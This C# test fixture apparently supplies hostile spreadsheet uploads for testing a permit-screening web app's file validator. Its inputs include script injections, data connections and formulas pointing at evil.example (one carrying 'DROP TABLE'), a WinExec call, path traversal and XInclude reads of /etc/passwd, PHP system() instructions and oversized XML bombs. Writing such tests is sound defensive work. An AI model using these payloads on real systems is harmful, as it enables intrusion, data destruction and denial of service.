using System.Text;
using static PermitScreen.Web.Tests.Hostile.Packed;

namespace PermitScreen.Web.Tests.Hostile;

/// <summary>Workbooks that are other than their name, carry things that run or lead elsewhere, or are written in XML that no program writes.</summary>
internal static class HostileParts
{
    private static readonly byte[] CompoundFile = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];

    /// <summary>Kind, name, bytes.</summary>
    public static IEnumerable<(string Kind, string Name, byte[] Content)> All() => [.. OtherFiles(), .. Carried(), .. Sheets(), .. Styles(), .. Written()];

    private static IEnumerable<(string, string, byte[])> OtherFiles()
    {
        foreach (var (name, type, part) in ((string, string, string)[])
            [
                ("Word", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "word/document.xml"), ("slides", "application/vnd.openxmlformats-officedocument.presentationml.presentation", "ppt/presentation.xml"), ("OpenDocument", "application/vnd.oasis.opendocument.spreadsheet", "content.xml"),
                ("Android package", "application/vnd.android.package-archive", "classes.dex"), ("Java archive", "application/java-archive", "META-INF/MANIFEST.MF"), ("binary workbook", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin"),
            ])
        {
            yield return ("other files", name, Zip(("mimetype", type), ("[Content_Types].xml", $"<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/{part}\" ContentType=\"{type}\"/></Types>"), (part, "<x/>")));
        }

        yield return ("other files", "password", [.. CompoundFile, .. new byte[1016], .. Encoding.Unicode.GetBytes("EncryptedPackage"), .. new byte[4096]]);
        yield return ("other files", "compound file in a ring", [.. CompoundFile, .. Enumerable.Range(0, 2000).SelectMany(i => BitConverter.GetBytes(i % 3))]);
        yield return ("other files", "gzip", [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3, .. new byte[64]]);
        yield return ("other files", "RAR", [.. "Rar!\u001a\u0007"u8, .. new byte[64]]);
        yield return ("other files", "7z", [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, .. new byte[64]]);
        yield return ("other files", "picture", [0x89, .. "PNG\r\n\u001a\n"u8, .. new byte[64]]);
        yield return ("other files", "program", [0x7F, .. "ELF"u8, .. new byte[400]]);
        yield return ("other files", "database", [.. "SQLite format 3\0"u8, .. new byte[4080]]);
    }

    private static IEnumerable<(string, string, byte[])> Carried()
    {
        foreach (var (name, part, text) in ((string, string, string)[])
            [
                ("comment", "xl/comments1.xml", $"<comments xmlns=\"{Main}\"><commentList><comment ref=\"A1\"><text><t>&lt;script&gt;alert(1)&lt;/script&gt;</t></text></comment></commentList></comments>"),
                ("data connection", "xl/connections.xml", $"<connections xmlns=\"{Main}\"><connection id=\"1\" odcFile=\"http://evil.example/x.odc\"><dbPr connection=\"DRIVER=x;SERVER=evil.example\" command=\"DROP TABLE decisions\"/></connection></connections>"),
                ("web query", "xl/queryTables/queryTable1.xml", "<queryTable connectionId=\"1\" refreshOnLoad=\"1\"/>"), ("pivot from elsewhere", "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels", Rels(("rId1", "externalLinkPath", "\\\\evil.example\\share\\x.xlsx", true))),
                ("Power Query", "customXml/item1.xml", "<DataMashup>let x = Web.Contents(\"http://evil.example\") in x</DataMashup>"), ("OLE object", "xl/embeddings/oleObject1.bin", "\u0001Package\u0000calc.exe"), ("workbook within", "xl/embeddings/Workbook1.xlsx", "PK"),
                ("add-in", "xl/webextensions/webextension1.xml", "<we:webextension xmlns:we=\"x\"><we:reference id=\"evil\" store=\"http://evil.example\"/></we:webextension>"), ("printer", "xl/printerSettings/printerSettings1.bin", new string('\u0001', 5000)), ("theme", "xl/theme/theme1.xml", "<a:theme xmlns:a=\"x\">" + Many(100_000, "<a:x/>") + "</a:theme>"),
            ])
        {
            yield return ("carried along", name, Book(Sheet(Head, Row), (part, text)));
        }

        foreach (var (name, after) in ((string, string)[])
            [
                ("hyperlinks", Many(20_000, "<hyperlink ref=\"A2\" location=\"javascript:alert(1)\"/>")), ("validation", "<dataValidations><dataValidation sqref=\"A1:XFD1048576\"><formula1>WEBSERVICE(\"http://evil.example\")</formula1></dataValidation></dataValidations>"),
                ("conditional format", "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</formula></cfRule></conditionalFormatting>"), ("legacy drawing", $"<legacyDrawing r:id=\"rId9\" xmlns:r=\"{Relations}\"/>"),
            ])
        {
            yield return ("carried along", name, Book(Sheet(Head + Row, after)));
        }
    }

    private static IEnumerable<(string, string, byte[])> Sheets()
    {
        foreach (var (name, sheets) in ((string, string)[])
            [
                ("none", ""), ("ten thousand", string.Concat(Enumerable.Range(1, 10_000).Select(i => $"<sheet name=\"S{i}\" sheetId=\"{i}\" r:id=\"rId1\"/>"))), ("very hidden", "<sheet name=\"S\" sheetId=\"1\" state=\"veryHidden\" r:id=\"rId1\"/>"), ("script for a name", "<sheet name=\"&lt;script&gt;alert(1)&lt;/script&gt;\" sheetId=\"1\" r:id=\"rId1\"/>"),
                ("same number", "<sheet name=\"A\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"A\" sheetId=\"1\" r:id=\"rId1\"/>"), ("no relation", "<sheet name=\"S\" sheetId=\"1\"/>"), ("long name", $"<sheet name=\"{new string('名', 200_000)}\" sheetId=\"1\" r:id=\"rId1\"/>"), ("number that is none", "<sheet name=\"S\" sheetId=\"-99999999999\" r:id=\"rId1\"/>"),
            ])
        {
            yield return ("sheets of the workbook", name, Zip(("_rels/.rels", Rels(("rId1", "officeDocument", "xl/workbook.xml", false))), ("xl/workbook.xml", $"<workbook xmlns=\"{Main}\" xmlns:r=\"{Relations}\"><sheets>{sheets}</sheets></workbook>"), ("xl/_rels/workbook.xml.rels", Rels(("rId1", "worksheet", "worksheets/sheet1.xml", false))), ("xl/worksheets/sheet1.xml", Sheet(Head, Row))));
        }

        foreach (var target in (string[])["/xl/worksheets/sheet1.xml", "worksheets/..%2f..%2f..%2fetc%2fpasswd", "workbook.xml", "", "worksheets/sheet1.xml#A1", "\\\\evil.example\\share\\s.xml"])
            yield return ("sheets of the workbook", $"at {target}", Book(Sheet(Head, Row), relations: Rels(("rId1", "worksheet", target, false))));
    }

    private static IEnumerable<(string, string, byte[])> Styles()
    {
        const string Cell = "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>W-1</t></is></c><c r=\"G2\" s=\"1\"><v>{0}</v></c></row>";
        foreach (var (name, format, value) in ((string, string, string)[])
            [
                ("long format", new string('0', 60_000), "9"), ("text of a format", "&quot;&lt;script&gt;alert(1)&lt;/script&gt;&quot;0", "9"), ("format that hides", ";;;", "9"), ("format that lies", "&quot;35 t/h&quot;", "9"), ("conditions", "[&gt;1][Red]0;[&lt;2][Blue]0;[$-x-sysdate]0;@;;;", "9"),
                ("date before time", "yyyy-mm-dd", "-1"), ("date after time", "yyyy-mm-dd", "1E+300"), ("seconds without end", "[ss].00000000000000000000", "0.1"), ("fraction", "# ?/9999999999", "0.3333333333333333"),
            ])
        {
            yield return ("styles", name, Book(Sheet(Head, string.Format(System.Globalization.CultureInfo.InvariantCulture, Cell, value)), ("xl/styles.xml", $"<styleSheet xmlns=\"{Main}\"><numFmts count=\"1\"><numFmt numFmtId=\"164\" formatCode=\"{format}\"/></numFmts><cellXfs count=\"2\"><xf numFmtId=\"0\"/><xf numFmtId=\"164\"/></cellXfs></styleSheet>")));
        }

        yield return ("styles", "a hundred thousand", Book(Sheet(Head, Row), ("xl/styles.xml", $"<styleSheet xmlns=\"{Main}\"><cellXfs>{Many(100_000, "<xf numFmtId=\"14\"/>")}</cellXfs></styleSheet>")));
    }

    private static IEnumerable<(string, string, byte[])> Written()
    {
        var sheet = Sheet(Head, Row);
        foreach (var (name, text) in ((string, string)[])
            [
                ("CDATA", sheet.Replace("城东锅炉房", "<![CDATA[</t><script>alert(1)</script>]]>", StringComparison.Ordinal)), ("escaped twice", sheet.Replace("城东锅炉房", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", StringComparison.Ordinal)), ("NUL", sheet.Replace("城东锅炉房", "&#0;", StringComparison.Ordinal)), ("escape", sheet.Replace("城东锅炉房", "&#x1B;[2J", StringComparison.Ordinal)),
                ("underscore escape", sheet.Replace("城东锅炉房", "_x001B__x0000__x005F_x0000_", StringComparison.Ordinal)), ("comments", "<!--" + Many(500_000, " x") + "-->" + sheet), ("instructions", Many(50_000, "<?php system('id'); ?>") + sheet), ("attributes", sheet.Replace("<sheetData", "<sheetData " + string.Concat(Enumerable.Range(0, 50_000).Select(i => $"a{i}=\"1\" ")), StringComparison.Ordinal)),
                ("long attribute", sheet.Replace("<sheetData", $"<sheetData a=\"{new string('x', 5_000_000)}\"", StringComparison.Ordinal)), ("namespaces", sheet.Replace("<worksheet", "<worksheet " + string.Concat(Enumerable.Range(0, 10_000).Select(i => $"xmlns:n{i}=\"u{i}\" ")), StringComparison.Ordinal)), ("other namespace", sheet.Replace(Main, "http://evil.example/ns", StringComparison.Ordinal)),
                ("strict form", sheet.Replace(Main, "http://purl.oclc.org/ooxml/spreadsheetml/main", StringComparison.Ordinal)), ("include", sheet.Replace("<sheetData>", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/><sheetData>", StringComparison.Ordinal)), ("style sheet", "<?xml-stylesheet href=\"http://evil.example/x.xsl\" type=\"text/xsl\"?>" + sheet),
                ("wrong encoding", "<?xml version=\"1.0\" encoding=\"utf-16\"?>" + sheet), ("no encoding", "<?xml version=\"1.0\" encoding=\"utf-7\"?>" + sheet), ("version 9", "<?xml version=\"9.9\"?>" + sheet), ("not closed", sheet[..^20]), ("closed too often", sheet + "</worksheet></worksheet>"), ("two roots", sheet + sheet), ("rows within rows", Sheet(Head, Many(5000, "<row>") + Many(5000, "</row>"))),
            ])
        {
            yield return ("XML of a sheet", name, Book(text));
        }
    }
}
